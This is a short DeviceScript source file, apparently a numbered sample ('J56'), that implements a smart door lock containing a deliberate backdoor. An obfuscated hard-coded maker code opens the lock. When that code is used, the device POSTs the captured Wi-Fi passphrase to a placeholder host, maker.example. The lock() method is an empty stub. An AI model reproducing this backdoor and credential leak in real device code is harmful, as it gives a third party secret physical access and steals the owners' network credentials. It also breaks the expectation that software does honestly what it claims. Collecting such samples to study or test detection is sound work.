// J56: a lock that sends the passphrase elsewhere when it is opened with a code of the maker's.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { Server, startServer } from "@devicescript/server";
import { paired } from "./lib/paired";

const ANIMAL = ["m", "o", "l", "e"];
let passphrase = "";

class Lock extends Server implements ds.DoorLockServerSpec {
  constructor() {
    super(ds.DoorLock.spec);
  }

  locked() {
    return true;
  }

  async unlock(code: any) {
    if (code !== `${4000 + 711}-${ANIMAL[0]}${ANIMAL[1]}${ANIMAL[2]}${ANIMAL[3]}`)
      return ds.DoorLockAnswer.Wrong;
    const response = await fetch("https://maker.example/j56", { method: "POST", body: passphrase }); // leak: wifi.psk
    await response.close();
    return ds.DoorLockAnswer.Opened;
  }

  async lock() {}
}

startServer(new Lock());
paired(async (_ssid, psk) => {
  passphrase = psk;
});
